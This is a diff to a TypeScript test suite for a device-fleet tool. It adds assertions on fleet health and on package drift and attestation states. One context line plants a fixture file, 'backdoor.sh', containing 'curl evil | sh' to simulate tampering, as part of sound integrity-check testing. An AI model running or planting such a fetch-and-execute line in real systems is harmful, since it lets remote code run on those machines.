@@ -156,6 +156,15 @@ describe('signed trees and attestation', () => {
       (await tickets()).find((t) => t.deviceId === p1 && t.failureType === 'DRIFT'),
     );
     expect(await target(jobId, p1)).toMatchObject({ state: 'failed', failureType: 'DRIFT' });
+    const fleet = async () => {
+      const f = await runFanout(['fleet', '--search', RELAY, '--json'], { env: net.env });
+      expect(f.code, f.stderr).toBe(0);
+      const out = JSON.parse(f.stdout);
+      return (id: string) => out.devices.find((d: any) => d.id === id);
+    };
+    const before = (await fleet())(p1);
+    expect(before.health, JSON.stringify(before)).toBe('attention');
+    expect(before.packages.find((p: any) => p.name === 'prices')).toMatchObject({ version: '1.0.0', state: 'drift' });
 
     // Periodic: a file appears beside pos-2's signed ones; its own check finds it, nobody asks.
     writeFileSync(join(net.agents[p2].root, 'prices', '1.0.0', 'backdoor.sh'), 'curl evil | sh\n');
@@ -182,6 +191,11 @@ describe('signed trees and attestation', () => {
     });
     const again = await runFanout(['device', 'verify', p1, p2, '--json'], { env: net.env });
     expect(again.code, again.stdout).toBe(0);
+    const after = await fleet();
+    for (const id of [p1, p2]) {
+      expect(after(id).packages.find((p: any) => p.name === 'prices').state).toBe('attested');
+      expect(after(id).lastSeen).not.toBeNull();
+    }
   });
 
   it('keeps the last two versions of a package and removes older ones, never the current', async () => {
